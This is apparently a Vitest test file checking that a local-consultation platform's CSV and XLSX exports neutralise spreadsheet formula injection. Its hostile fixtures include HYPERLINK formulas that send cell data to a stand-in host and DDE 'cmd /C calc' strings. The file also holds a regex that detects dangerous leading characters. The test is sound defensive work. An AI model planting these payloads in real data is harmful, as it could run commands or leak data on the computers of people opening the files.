// CSV injection (OWASP "CSV Injection") in every CSV the platform writes: the tally and responses
// exports (built directly and through their route) and the register template. A resident's comment
// or free-text answer, a household head's name or a neighbourhood's name from an imported register,
// an option label: whichever begins with = + - @, tab or CR reaches the file prefixed with a single
// quote, so a spreadsheet shows it as text. The XLSX workbook keeps the text as it is (its cells are
// typed as text, never formulas).
import ExcelJS from "exceljs";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, test, vi } from "vitest";
import { DAY_MS } from "@/domain/consultation-plan";
import { buildResponsesCsv, buildTallyCsv, buildTallyWorkbook } from "@/server/tallies/export";
import { createTestDb, type TestDb } from "../helpers/test-db";
import { createCommune, createHousehold, createNeighbourhood } from "../helpers/factories";

const auth = vi.hoisted(() => ({ current: null as null | { actor: { communeId: string }; db: unknown } }));
vi.mock("next/headers", () => ({ cookies: async () => ({ get: () => undefined }) }));
vi.mock("@/server/api/route-auth", () => ({ staffWithPermission: async () => auth.current }));
// The shared writer, watched: the register template has no cell anyone can set, so what shows it is
// safe is that it goes through the same writer as the rest.
vi.mock("@/domain/csv", async (importOriginal) => {
  const real = await importOriginal<typeof import("@/domain/csv")>();
  return { ...real, toCsv: vi.fn(real.toCsv) };
});

const HOSTILE = {
  neighbourhood: '=HYPERLINK("http://x.example/thon","Thôn")',
  option: "+Đồng ý",
  headName: "@SUM(1+1)*cmd|' /C calc'!A0",
  comment: '=HYPERLINK("http://x.example/?d="&A1,"Bấm vào đây")',
  text: "-2+3+cmd|' /C calc'!A0",
  // A line break, then a formula: without quoting it would start a row of its own.
  multiline: 'Đồng ý\n=HYPERLINK("http://x.example")',
  tab: "\t=1+1",
};
const DANGEROUS = /^[=+\-@\t\r]/;

let t: TestDb;
let communeId: string;
let consultationId: string;
const now = new Date("2026-12-10T09:00:00+07:00");

beforeAll(async () => {
  t = await createTestDb();
  communeId = (await createCommune(t.db)).id;
  const hood = await createNeighbourhood(t.db, communeId, HOSTILE.neighbourhood);
  const c = await t.db.consultation.create({
    data: {
      communeId,
      title: "Làm đường liên thôn",
      summary: "",
      matter: "PUBLIC_WORKS_CONTRIBUTION",
      mode: "DECISION",
      status: "OPEN",
      channels: ["ONLINE"],
      ruleNumerator: 1,
      ruleDenominator: 2,
      ruleInclusive: false,
      ruleAggregation: "WHOLE_AREA",
      publishedAt: new Date(now.getTime() - 30 * DAY_MS),
      opensAt: new Date(now.getTime() - 30 * DAY_MS),
      closesAt: new Date(now.getTime() + DAY_MS),
      areas: { create: [{ neighbourhoodId: hood.id, neighbourhoodName: hood.name }] },
      questions: {
        create: [
          {
            position: 0,
            kind: "APPROVAL",
            text: "Đồng ý đóng góp?",
            options: {
              create: [
                ["AGREE", HOSTILE.option],
                ["DISAGREE", "Không đồng ý"],
              ].map(([key, label], position) => ({ key, label, position })),
            },
          },
          { position: 1, kind: "FREE_TEXT", text: "Đề xuất khác" },
        ],
      },
    },
    include: { questions: { orderBy: { position: "asc" }, include: { options: { orderBy: { position: "asc" } } } } },
  });
  consultationId = c.id;
  const [approval, free] = c.questions;
  const hh = [
    await createHousehold(t.db, hood, { code: "D001", headName: HOSTILE.headName }),
    await createHousehold(t.db, hood, { code: "D002" }),
  ];
  await t.db.rollEntry.createMany({
    data: hh.map((h) => ({
      consultationId,
      householdId: h.id,
      neighbourhoodId: h.neighbourhoodId,
      householdCode: h.code,
      headName: h.headName,
    })),
  });
  const answered = [
    { comment: HOSTILE.comment, text: HOSTILE.text },
    { comment: HOSTILE.multiline, text: HOSTILE.tab },
  ];
  for (const [i, h] of hh.entries()) {
    const r = await t.db.response.create({
      data: {
        consultationId,
        householdId: h.id,
        neighbourhoodId: h.neighbourhoodId,
        effectiveHouseholdId: h.id,
        channel: "ONLINE",
        receiptCode: `R-${h.code}`,
        submittedAt: now,
      },
    });
    await t.db.answer.create({
      data: {
        responseId: r.id,
        questionId: approval.id,
        comment: answered[i].comment,
        choices: { create: [{ optionId: approval.options[0].id }] },
      },
    });
    await t.db.answer.create({ data: { responseId: r.id, questionId: free.id, text: answered[i].text } });
  }
});
afterAll(() => t.close());

const rowsOf = (bytes: Buffer | ArrayBuffer) =>
  parse(new TextDecoder().decode(bytes), { bom: true, relax_column_count: true }) as string[][];
const unsafeCells = (rows: string[][]) => rows.flat().filter((cell) => DANGEROUS.test(cell));

describe("the tally and responses exports", () => {
  test("responses CSV: every hostile comment, answer and name is prefixed with a quote and stays one cell", async () => {
    const rows = rowsOf(await buildResponsesCsv(t.db, communeId, consultationId, now, "vi"));
    expect(rows).toHaveLength(3); // header and two responses: the line break did not start a row
    expect(unsafeCells(rows)).toEqual([]);
    const d001 = rows.find((r) => r[0] === "D001")!;
    expect(d001.slice(1, 3)).toEqual([`'${HOSTILE.headName}`, `'${HOSTILE.neighbourhood}`]);
    expect(d001.slice(6)).toEqual([`'${HOSTILE.option}`, `'${HOSTILE.comment}`, `'${HOSTILE.text}`, ""]);
    const d002 = rows.find((r) => r[0] === "D002")!;
    expect(d002[7]).toBe(HOSTILE.multiline); // starts with "Đồng ý": text, left as it is
    expect(d002[8]).toBe(`'${HOSTILE.tab}`);
  });

  test("tally CSV: a hostile neighbourhood name and option label are neutralised; the figures stay numbers", async () => {
    const rows = rowsOf(await buildTallyCsv(t.db, communeId, consultationId, now, "vi"));
    expect(unsafeCells(rows)).toEqual([]);
    expect(rows[1][0]).toBe(`'${HOSTILE.neighbourhood}`);
    expect(rows[0]).toContain(`Câu 1: ${HOSTILE.option}`); // the label inside a header, not at its start
    expect(rows[1].slice(1, 4)).toEqual(["2", "2", "100.0"]);
  });

  test("through the route: both CSV downloads are neutralised", async () => {
    const { GET } = await import("@/app/api/consultations/[id]/export/route");
    auth.current = { actor: { communeId }, db: t.db };
    for (const what of ["tally", "responses"]) {
      const res = await GET(
        new Request(`http://localhost/api/consultations/${consultationId}/export?format=csv&what=${what}`),
        { params: Promise.resolve({ id: consultationId }) },
      );
      expect(res.status).toBe(200);
      const rows = rowsOf(await res.arrayBuffer());
      expect(unsafeCells(rows)).toEqual([]);
      expect(rows.flat()).toContain(`'${HOSTILE.neighbourhood}`);
    }
  });

  test("the XLSX workbook keeps the text as typed (its cells are text, not formulas)", async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(new Uint8Array(await buildTallyWorkbook(t.db, communeId, consultationId, now, "vi")).buffer);
    const sheet = wb.getWorksheet("Ý kiến")!;
    const d001 = (sheet.getRow(2).values as unknown[]).slice(1);
    expect(d001[7]).toBe(HOSTILE.comment);
    expect(sheet.getCell("H2").type).toBe(ExcelJS.ValueType.String);
  });
});

describe("the register template", () => {
  test("is written by the shared writer, and none of its cells could start a formula", async () => {
    const { toCsv } = await import("@/domain/csv");
    vi.mocked(toCsv).mockClear();
    const { GET } = await import("@/app/api/register/template/route");
    auth.current = { actor: { communeId }, db: t.db };
    const res = await GET(new Request("http://localhost/api/register/template?format=csv"));
    expect(res.status).toBe(200);
    expect(vi.mocked(toCsv)).toHaveBeenCalledTimes(1);
    const body = Buffer.from(await res.arrayBuffer());
    expect(body.equals(vi.mocked(toCsv).mock.results[0].value as Buffer)).toBe(true);
    expect(unsafeCells(rowsOf(body))).toEqual([]);
  });
});
